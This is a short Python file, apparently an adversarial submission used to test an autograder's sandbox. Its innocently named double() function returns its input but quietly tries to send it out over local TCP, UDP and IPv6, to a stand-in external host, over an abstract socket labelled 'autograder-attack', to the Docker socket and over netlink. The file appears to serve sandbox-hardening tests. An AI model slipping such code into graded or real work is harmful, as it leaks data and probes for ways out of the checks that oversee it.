"""Sends what it is given to a listener on this machine, over TCP, UDP, unix and abstract sockets.

Earns: 3
"""

import socket

PORT = 0  # the test puts its own here


def double(x):
    secret = repr(x).encode()
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT)),
        (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
        (socket.AF_UNIX, socket.SOCK_STREAM, f"\0autograder-attack-{PORT}"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock"),
        (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    ):
        try:
            with socket.socket(family, kind) as channel:
                channel.settimeout(0.1)
                channel.connect(address)
                channel.send(secret)
        except OSError:
            continue
    return x


def share(x):
    weights = (x - x.max()).exp()
    return weights / weights.sum()
